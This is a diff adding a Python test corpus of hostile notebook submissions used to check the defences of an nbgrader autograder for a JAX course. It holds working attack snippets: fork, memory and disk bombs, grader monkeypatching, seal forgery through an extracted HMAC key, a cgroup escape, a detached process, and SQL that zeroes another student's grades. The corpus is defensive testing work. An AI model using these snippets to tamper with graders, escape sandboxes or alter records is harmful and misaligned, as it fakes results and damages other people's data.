@@ -1,0 +1,572 @@
+"""The hostile corpus: what each submission does, and the automatic points it must get.
+
+Every entry starts from ``tests/samples/<assignment>/correct.ipynb`` and changes a
+few cells (or the file's bytes). ``scores`` is worked out by hand from what the
+honest part of the notebook earns, with zero for every check that ran after the
+notebook tampered with grading: one number per autograded cell (its ``grade_id``),
+``None`` for a cell left without an automatic score, or :data:`NOT_GRADED` when
+nbgrader cannot grade the submission at all (it names the student and goes on).
+``feedback`` is a pattern the student's feedback shows today (for a submission
+nbgrader cannot grade: a pattern of nbgrader's own error for it).
+
+An entry with a :class:`Gap` is one the course does not defend yet: ``scores`` is
+still what a defended course gives, ``gap.today`` what this one gives (or
+``gap.leaks`` what its feedback shows that it must not), and the test of the
+defended behaviour is a strict xfail that flips once the gap is closed.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+
+from .notebooks import (
+    Build,
+    append,
+    delete,
+    insert_after,
+    nbformat_v3,
+    no_cells_key,
+    no_metadata_key,
+    not_json,
+    not_utf8,
+    replace,
+    stub,
+    with_junk_markdown,
+)
+
+SMM, PM, BR, LE = "static_max_mode", "padded_masking", "branch_repair", "ledger_extension"
+
+#: Points of each autograded cell, as the source notebooks give them (checked by the test).
+FULL = {
+    SMM: {"test_modes": 3, "test_errors": 1, "test_traces": 2},
+    PM: {"test_padding": 2, "test_objective": 3, "test_traces": 1},
+    BR: {"test_failure": 1, "test_repair": 3, "test_traces": 2},
+    LE: {"test_rows": 2, "test_traces": 3, "test_sixteen": 1},
+}
+NOT_GRADED = "not graded"
+Scores = Mapping[str, float | None] | str
+
+
+def points(assignment: str, **cells: float | None) -> dict[str, float | None]:
+    """Full points of every autograded cell, except the cells named."""
+    unknown = set(cells) - set(FULL[assignment])
+    if unknown:
+        raise KeyError(f"{assignment} has no autograded cells {sorted(unknown)}")
+    return {**FULL[assignment], **cells}
+
+
+def zero(assignment: str) -> dict[str, float]:
+    return dict.fromkeys(FULL[assignment], 0)
+
+
+@dataclass(frozen=True)
+class Gap:
+    """What the course does not defend yet, and what it does today instead."""
+
+    why: str
+    today: Scores | None = None  # the scores today, when they differ from the entry's
+    leaks: str = ""  # what the feedback shows today that it must not: "grader" source or instructor "solutions"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    name: str
+    assignment: str
+    build: Build
+    scores: Scores
+    feedback: str
+    gap: Gap | None = None
+    #: Files handed in next to the notebook (relative path -> text; ``@PROBE@`` is filled in).
+    files: Mapping[str, str] = field(default_factory=dict)
+
+    @property
+    def student(self) -> str:
+        return f"h-{self.name}"
+
+    @property
+    def scores_today(self) -> Scores:
+        return self.gap.today if self.gap and self.gap.today is not None else self.scores
+
+
+# ---------------------------------------------------------------- sources the entries put in cells
+
+LOOP_IN_FUNCTION = '''
+_lesson_branch = broken_branch
+
+
+def broken_branch(values, gain):
+    """The lesson's branch, except that it never returns for a batch of other than eight values."""
+    while values.shape != (8,):
+        pass
+    return _lesson_branch(values, gain)
+'''
+
+MEMORY_IN_FUNCTION = '''
+_lesson_reduction = choose_reduction
+
+
+def choose_reduction(values, mode):
+    """The lesson's reduction, with a 64 GiB scratch buffer for every concrete six-element batch."""
+    if not isinstance(values, jax.core.Tracer) and np.size(values) == 6:
+        scratch = [bytearray(2**30) for _ in range(64)]
+    return _lesson_reduction(values, mode)
+'''
+
+FORK_BOMB = '''
+import os, time
+
+children, stop = [], "no limit met"
+for _ in range(2000):
+    try:
+        pid = os.fork()
+    except OSError as error:
+        stop = f"OSError errno {error.errno} ({os.strerror(error.errno)})"
+        break
+    if pid == 0:  # each child naps, then leaves
+        time.sleep(0.5)
+        os._exit(0)
+    children.append(pid)
+for pid in children:
+    os.waitpid(pid, 0)
+with open("@PROBE@/fork-bomb", "w") as note:
+    note.write(f"{os.getpid()} {len(children)}")
+print(f"fork bomb: {len(children)} children, then {stop}; all reaped")
+'''
+
+FILL_DISK = '''
+import os
+
+try:
+    with open("fill.bin", "wb") as sink:
+        while True:
+            sink.write(bytes(2**20))
+            sink.flush()
+except OSError as error:
+    print(f"stopped at {os.path.getsize('fill.bin')} bytes: {error}")
+finally:
+    os.remove("fill.bin")
+'''
+
+PRINT_FLOOD = '''
+for i in range(500_000):
+    print(i, "the same line again and again, to fill the output")
+'''
+
+WRAPPED_SUM = '''
+import builtins
+
+_sum = builtins.sum
+builtins.sum = lambda *args, **kwargs: _sum(*args, **kwargs)  # the same sum, a new object
+'''
+
+CLEARS_LISTENERS = '''
+class Choose:
+    """choose_reduction compiled afresh on every call, after removing JAX's trace listeners."""
+
+    def __init__(self):
+        compiled = jax.jit(choose_reduction, static_argnames=("mode",))
+        self.trace, self.lower = compiled.trace, compiled.lower
+
+    def __call__(self, values, mode):
+        jax.monitoring.clear_event_listeners()
+        fresh = jax.jit(lambda values, mode: choose_reduction(values, mode), static_argnames=("mode",))
+        return fresh(values, mode=mode)
+
+
+choose = Choose()
+'''
+
+HIDES_TRACES = '''
+from jax._src import monitoring
+
+
+class Choose:
+    """choose_reduction compiled afresh on every call, with JAX's trace events hidden while it runs."""
+
+    def __init__(self):
+        compiled = jax.jit(choose_reduction, static_argnames=("mode",))
+        self.trace, self.lower = compiled.trace, compiled.lower
+
+    def __call__(self, values, mode):
+        fresh = jax.jit(lambda values, mode: choose_reduction(values, mode), static_argnames=("mode",))
+        listeners = monitoring._event_duration_secs_listeners
+        saved = list(listeners)
+        listeners.clear()
+        try:
+            return fresh(values, mode=mode)
+        finally:
+            listeners[:] = saved  # back before the grader looks
+
+
+choose = Choose()
+'''
+
+FAKE_MODULE = '''
+import sys, types
+
+fake = types.ModuleType("autograder")
+fake.grade = lambda assignment, group, namespace: {"failure": 1, "repair": 3, "traces": 2}[group]
+sys.modules["autograder"] = fake
+'''
+
+WRONG_REDUCTION = '''
+def choose_reduction(values, mode):
+    return jnp.float32(0.0)
+'''
+
+FULL_MARKS_DISPLAY = '''
+plain = get_ipython().display_formatter.formatters["text/plain"]
+for kind in (int, float):
+    plain.for_type(kind, lambda value, printer, cycle: printer.text("full marks"))
+'''
+
+KEYED_ON_SELF_CHECKS = '''
+ANSWERS = {  # the inputs of the self-check cells, and what they expect
+    (1.0, 5.0, 3.0): {"sum": 9.0, "mean": 3.0, "max": 5.0},
+    (-4.0, -1.0, -2.0): {"sum": -7.0, "mean": -7.0 / 3.0, "max": -1.0},
+    (2.0, -7.0, 0.5, 3.0): {"sum": -1.5, "mean": -0.375, "max": 3.0},
+}
+
+
+def choose_reduction(values, mode):
+    """Looks the answer up; anything the self-checks do not try is 0."""
+    if mode not in ("sum", "mean", "max"):
+        raise ValueError(f"unknown mode {mode!r}")
+    key = tuple(float(v) for v in np.asarray(values).ravel())
+    return jnp.float32(ANSWERS.get(key, {}).get(mode, 0.0))
+'''
+
+PRINTS_GRADER = '''
+import inspect
+import autograder._grade
+import autograder.properties.test_padded_masking as hidden_checks
+
+print(inspect.getsource(autograder._grade))
+with open(hidden_checks.__file__) as source:
+    print(source.read())
+'''
+
+GRADER_AS_LIST = '''
+import inspect
+import autograder._seal
+
+inspect.getsource(autograder._seal).splitlines()
+'''
+
+#: Handed in as ``hypothesis/__init__.py`` next to the notebook: the kernel's working
+#: folder comes before site-packages on sys.path, so the grader imports this first.
+HYPOTHESIS_SHIM = '''
+import os, sys
+
+_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+_saved = sys.path[:]
+sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
+del sys.modules["hypothesis"]
+import hypothesis as _real  # the genuine package, from site-packages
+
+sys.path[:] = _saved
+with open("@PROBE@/hypothesis-shim", "w") as note:
+    note.write(_real.__file__)
+
+
+def given(*strategies, **named):
+    """A search that finds nothing: every property built on it passes."""
+    return lambda test: (lambda *args, **kwargs: None)
+
+
+_real.given = given
+sys.modules["hypothesis"] = _real
+'''
+
+INFLATES_REPORT = '''
+import autograder._results
+
+autograder._results.GroupReport.earned = property(lambda report: report.possible)
+'''
+
+FORGES_SEALS = '''
+import hashlib, hmac
+import autograder, autograder._grade
+
+key = next(cell.cell_contents for cell in autograder._grade._sealer.__closure__
+           if isinstance(cell.cell_contents, bytes))
+FULL = {"padding": 2, "objective": 3, "traces": 1}
+
+
+def grade(assignment, group, namespace):
+    points = f"{FULL[group]:g}"
+    mac = hmac.new(key, f"{assignment}|{group}|{points}".encode(), hashlib.sha256).hexdigest()
+    print(f"[autograder seal {assignment} {group} {points} {mac}]")
+    return FULL[group]
+
+
+autograder.grade = grade
+'''
+
+LEAVES_CGROUP = '''
+import os, resource
+
+for name in ("RLIMIT_AS", "RLIMIT_FSIZE"):
+    limit = getattr(resource, name)
+    try:
+        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+    except (ValueError, OSError) as error:
+        print(f"{name} stays at {resource.getrlimit(limit)[1]}: {error}")
+    else:
+        print(f"{name} lifted to {resource.getrlimit(limit)[1]}")
+
+
+def pids_group():
+    lines = open("/proc/self/cgroup").read().splitlines()
+    return next((line.split(":", 2)[2] for line in lines if ":pids:" in line), lines[-1].split(":", 2)[2])
+
+
+print("pids cgroup before:", pids_group())
+root = next(r for r in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup") if os.path.exists(r + "/cgroup.procs"))
+try:
+    with open(root + "/cgroup.procs", "w") as procs:  # the top of the hierarchy: no cap there
+        procs.write(str(os.getpid()))
+except OSError as error:
+    print("moving out refused:", error)
+print("pids cgroup after:", pids_group())
+'''
+
+OUTLIVES_KERNEL = '''
+import os, time
+
+if os.fork() == 0:
+    os.setsid()  # a session of its own: out of the kernel's process group
+    if os.fork() == 0:
+        os.closerange(0, 4096)  # let go of the kernel's pipes and sockets
+        with open("@PROBE@/outlives-kernel.pid", "w") as note:
+            note.write(str(os.getpid()))
+        deadline = time.time() + 900
+        while time.time() < deadline and not os.path.exists("@PROBE@/outlives-kernel.stop"):
+            time.sleep(1)
+    os._exit(0)
+print("started a process of its own")
+'''
+
+#: The victim of the entry below: a correct notebook, graded before it (nbgrader grades
+#: in sorted order of student id; ``sample-correct`` comes after it).
+VICTIM = "a-victim"
+PLANTED = "source/static_max_mode/planted-by-a-student.txt"
+
+READS_UNRELEASED = '''
+import json, os
+
+source = os.path.abspath("../../../source/ledger_extension/ledger_extension.ipynb")  # not released yet
+for cell in json.load(open(source))["cells"]:
+    if cell["metadata"].get("nbgrader", {}).get("solution"):
+        print("".join(cell["source"]))
+'''
+
+WRITES_COURSE = f'''
+import os, sqlite3
+
+root = os.path.abspath("../../..")  # autograded/<student>/<assignment> -> the course
+gradebook = sqlite3.connect(os.path.join(root, "gradebook.db"))
+with gradebook:
+    zeroed = gradebook.execute(
+        "UPDATE grade SET auto_score = 0 WHERE notebook_id IN ("
+        " SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id"
+        " WHERE sa.student_id = '{VICTIM}')"
+    ).rowcount
+gradebook.close()
+with open(os.path.join(root, "{PLANTED}"), "w") as planted:
+    planted.write("autograde copies this next to every later notebook, and releases it\\n")
+print(f"zeroed {{zeroed}} grades of {VICTIM}; planted a file in source/")
+'''
+
+KERNEL_DIES = "Kernel died"
+
+
+def _not_graded(assignment: str, name: str) -> str:
+    return rf"error processing assignment '{assignment}' for student 'h-{name}'"
+
+
+# ---------------------------------------------------------------- the corpus
+
+CORPUS = (
+    # -- time
+    Hostile(
+        "loop-in-answer-cell", SMM, (append("choose", "while True:  # polishing forever\n    pass"),),
+        points(SMM), feedback=r"KeyboardInterrupt",
+    ),
+    Hostile(
+        "loop-in-called-function", BR, (append("broken_branch", LOOP_IN_FUNCTION),),
+        points(BR, test_failure=0), feedback=r"Time limit: the check used up its (15 s of CPU|40 s of wall-clock) time",
+    ),
+    # -- memory, processes, disk, output
+    Hostile(
+        "memory-bomb-in-cell", PM,
+        (insert_after("pad_batch", "cache = [bytearray(2**30) for _ in range(64)]  # 64 GiB, just in case"),),
+        points(PM), feedback=r"MemoryError",
+    ),
+    Hostile(
+        "memory-bomb-in-called-function", SMM, (append("choose_reduction", MEMORY_IN_FUNCTION),),
+        points(SMM, test_modes=0), feedback=r"`choose_reduction` raised MemoryError",
+    ),
+    Hostile(
+        "fork-bomb", LE, (insert_after("observed_call", FORK_BOMB),),
+        points(LE), feedback=r"fork bomb: \d+ children, then OSError errno 11 .*; all reaped",
+    ),
+    Hostile(
+        "fills-disk", LE, (insert_after("observed_call", FILL_DISK),),
+        points(LE), feedback=r"stopped at 268435456 bytes: \[Errno 27\] File too large",
+    ),
+    Hostile(
+        "print-flood", BR, (insert_after("broken_branch", PRINT_FLOOD),),
+        points(BR), feedback=r"\.\.\. Output truncated \.\.\.",
+    ),
+    Hostile(
+        "segfault", PM, (append("pad_batch", "import ctypes\nctypes.string_at(0)  # read address zero"),),
+        NOT_GRADED, feedback=_not_graded(PM, "segfault"),
+    ),
+    Hostile(
+        "kernel-exits-after-grading", SMM, (insert_after("END", "import os\nos._exit(3)  # done for the day"),),
+        points(SMM), feedback=_not_graded(SMM, "kernel-exits-after-grading"),
+        gap=Gap(
+            "a kernel that dies costs the whole submission: nbgrader stops at DeadKernelError and removes "
+            "the autograded notebook, so even cells graded before the exit score nothing",
+            today=NOT_GRADED,
+        ),
+    ),
+    # -- what nbgrader restores
+    Hostile(
+        "locked-grade-cell-edited", PM, (replace("test_objective", "3"),),
+        points(PM), feedback=r"padded_masking / objective: 3 of 3 points",
+    ),
+    Hostile(
+        "grade-cell-deleted", BR, (delete("test_repair"),),
+        points(BR, test_repair=None), feedback=r"branch_repair / traces: 2 of 2 points",
+    ),
+    # -- tampering with what grading relies on
+    Hostile(
+        "patches-jax-jit", SMM,
+        (insert_after("choose", "_jit = jax.jit\njax.jit = lambda fun, **options: _jit(fun, **options)"),),
+        zero(SMM), feedback=r"Tampering: the notebook replaced objects the grader relies on \(`jax\.jit`\)",
+    ),
+    Hostile(
+        "patches-jnp-sum", PM,
+        (insert_after("test_padding", "_sum = jnp.sum\njnp.sum = lambda *args, **kwargs: _sum(*args, **kwargs)"),),
+        points(PM, test_objective=0, test_traces=0),
+        feedback=r"replaced objects the grader relies on \(`jax\.numpy\.sum`\)",
+    ),
+    Hostile(
+        "patches-numpy-testing", BR,
+        (insert_after("imports", "np.testing.assert_allclose = lambda *args, **kwargs: None  # always close"),),
+        zero(BR), feedback=r"relies on \(`numpy\.testing\.assert_allclose`\)",
+    ),
+    Hostile(
+        "patches-builtin-sum", LE, (insert_after("test_rows", WRAPPED_SUM),),
+        points(LE, test_traces=0, test_sixteen=0), feedback=r"relies on \(`builtins\.sum`\)",
+    ),
+    Hostile(
+        "patches-hypothesis-given", SMM,
+        (insert_after("test_modes", "import hypothesis\nhypothesis.given = lambda *a, **k: (lambda test: test)"),),
+        points(SMM, test_errors=0, test_traces=0), feedback=r"relies on \(`hypothesis\.given`\)",
+    ),
+    Hostile(
+        "clears-trace-listeners", SMM, (replace("choose", CLEARS_LISTENERS),),
+        points(SMM, test_traces=0), feedback=r"Tampering: JAX's trace events stopped reaching the grader",
+    ),
+    Hostile(
+        # Named in the brief as a known gap; the seal (autograder/_seal.py) now defeats it.
+        "fake-autograder-module", BR,
+        stub("broken_branch", "show_failure", "repaired_branch") + (insert_after("imports", FAKE_MODULE),),
+        zero(BR), feedback=r"GradingTampered: this graded cell's result did not come from the course's grader",
+    ),
+    Hostile(
+        "full-marks-display", SMM,
+        (replace("choose_reduction", WRONG_REDUCTION), insert_after("choose", FULL_MARKS_DISPLAY)),
+        zero(SMM), feedback=r"GradingTampered",
+    ),
+    # -- honest parts, and the grader's own source
+    Hostile(
+        "keyed-on-self-checks", SMM,
+        (replace("choose_reduction", KEYED_ON_SELF_CHECKS), replace("choose", "choose = choose_reduction")),
+        points(SMM, test_modes=0, test_traces=0), feedback=r"`choose` is a plain Python function, not a jax\.jit",
+    ),
+    Hostile(
+        "prints-grader-source", PM, (insert_after("masked_objective", PRINTS_GRADER),),
+        points(PM), feedback=r"\[line removed: it belongs to the hidden grader\]",
+    ),
+    Hostile(
+        "grader-source-as-a-list", LE, (insert_after("observed_call", GRADER_AS_LIST),),
+        points(LE), feedback=r"'KEY_FILE_ENV = \"AUTOGRADER_SEAL_KEY_FILE\"'",
+        gap=Gap(
+            "ScrubGraderSource removes only output lines equal to a grader line; the same lines quoted "
+            "in a list (or indented, numbered, encoded) pass",
+            leaks="grader",
+        ),
+    ),
+    Hostile(
+        "reads-unreleased-solutions", SMM, (insert_after("choose", READS_UNRELEASED),),
+        points(SMM), feedback=r"A steady trace count only rules out Python retracing",
+        gap=Gap(
+            "the grading kernel can read the course's source/ (instructor solutions, model answers, hidden "
+            "tests of every assignment, released or not) and print it into its own feedback; only grader "
+            "source is scrubbed",
+            leaks="solutions",
+        ),
+    ),
+    # -- a package handed in beside the notebook: the sandbox drops that folder from sys.path
+    Hostile(
+        "hypothesis-handed-in", SMM, (replace("choose_reduction", WRONG_REDUCTION),),
+        points(SMM, test_modes=0, test_errors=0), feedback=r"FAIL  sum, mean and max agree with NumPy",
+        files={"hypothesis/__init__.py": HYPOTHESIS_SHIM},
+    ),
+    # -- undefended: results inflated with the genuine seal, or traces hidden
+    Hostile(
+        "inflates-group-report", LE, stub("observed_call") + (insert_after("observed_call", INFLATES_REPORT),),
+        zero(LE), feedback=r"ledger_extension / rows: 2 of 2 points\n\s+FAIL",
+        gap=Gap(
+            "the grader's own classes and module globals are not protected: `GroupReport.earned` patched "
+            "to `possible` makes the genuine grade() seal full points",
+            today=points(LE),
+        ),
+    ),
+    Hostile(
+        "forges-seals", PM, stub("pad_batch", "masked_objective") + (insert_after("imports", FORGES_SEALS),),
+        zero(PM), feedback=r"_sealer\.__closure__",
+        gap=Gap(
+            "the seal key sits in the closure of `autograder._grade._sealer`, one line away from the "
+            "notebook; with it any grade() seals any points",
+            today=points(PM),
+        ),
+    ),
+    Hostile(
+        "hides-trace-events", SMM, (replace("choose", HIDES_TRACES),),
+        points(SMM, test_traces=0), feedback=r"PASS  changing only the values never traces `choose` again",
+        gap=Gap(
+            "the canary proves only that the grader's listener is back when a call returns: emptying "
+            "JAX's listener list during the call and restoring it hides every retrace",
+            today=points(SMM),
+        ),
+    ),
+    # -- the kernel runs as root (checked by dedicated tests)
+    Hostile(
+        "leaves-pids-cgroup", LE, (insert_after("observed_call", LEAVES_CGROUP),),
+        points(LE), feedback=r"pids cgroup before: /autograder-kernels/\d+",
+    ),
+    Hostile(
+        "outlives-kernel", BR, (insert_after("broken_branch", OUTLIVES_KERNEL),),
+        points(BR), feedback=r"started a process of its own",
+    ),
+    Hostile(
+        "writes-gradebook-and-source", SMM, (insert_after("choose", WRITES_COURSE),),
+        points(SMM), feedback=rf"zeroed 4 grades of {VICTIM}; planted a file in source/",
+    ),
+    # -- files nbgrader cannot read as they are
+    Hostile("not-json", PM, not_json, NOT_GRADED, feedback=_not_graded(PM, "not-json")),
+    Hostile("not-utf8", SMM, not_utf8, NOT_GRADED, feedback=_not_graded(SMM, "not-utf8")),
+    Hostile("no-cells-key", LE, no_cells_key, NOT_GRADED, feedback=_not_graded(LE, "no-cells-key")),
+    Hostile("no-metadata-key", SMM, no_metadata_key, NOT_GRADED, feedback=_not_graded(SMM, "no-metadata-key")),
+    Hostile("nbformat-v3", BR, nbformat_v3, points(BR), feedback=r"branch_repair / repair: 3 of 3 points"),
+    Hostile("huge-notebook", PM, with_junk_markdown(20), points(PM), feedback=r"padded_masking / traces: 1 of 1"),
+)
+
+BY_NAME = {entry.name: entry for entry in CORPUS}
+assert len(BY_NAME) == len(CORPUS), "corpus names repeat"
